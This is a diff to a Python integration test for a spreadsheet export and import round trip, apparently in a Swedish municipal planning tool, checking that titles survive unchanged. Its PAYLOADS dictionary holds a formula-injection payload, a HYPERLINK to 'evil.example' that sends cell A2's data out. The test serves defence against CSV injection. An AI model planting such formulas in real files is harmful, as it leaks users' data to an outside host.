@@ -25,7 +25,7 @@ from cli.round_export import write_export
 from core.model import Body, Decision, Measure, Status
 from core.text import FORMULA_STARTS, from_spreadsheet_text, spreadsheet_text
 from storage.templates import csv_cell, read_template
-from tests.integration.test_templates import _add_empty_city
+from tests.integration.test_templates import _add_empty_city, export_files
 
 PAYLOADS = {
     "=": '=HYPERLINK("https://evil.example/?d="&A2,"Klicka här")',
@@ -185,13 +185,18 @@ def test_our_own_export_imports_back_with_the_titles_as_written(
     _hostile_city(example_engine)
     _add_empty_city(example_engine, "nystad")
     rows = export_rows(example_engine, "malmo", None, 2025)
-    path = tmp_path / f"export.{fmt}"
-    path.write_bytes(export_bytes(rows, fmt))
+    paths = export_files(example_engine, "malmo", fmt, tmp_path)  # the needs' sheet or file too
 
-    _, read = read_template(path)
+    _, read = read_template(paths[0])
     assert {r["Insats"] for r in read} == {r["Insats"] for r in rows}  # no quote gained
     import_template(
-        example_engine, "nystad", None, path, year=2025, as_of=date(2025, 3, 1), decision_text="KS 2025-03-05"
+        example_engine,
+        "nystad",
+        None,
+        paths,
+        year=2025,
+        as_of=date(2025, 3, 1),
+        decision_text="KS 2025-03-05",
     )
     titles = {m.title for m in Services(example_engine, org="nystad").ledger().measures.values()}
     assert {PAYLOADS[p] for p in TITLED} <= titles  # exactly as written: no quote gained or lost
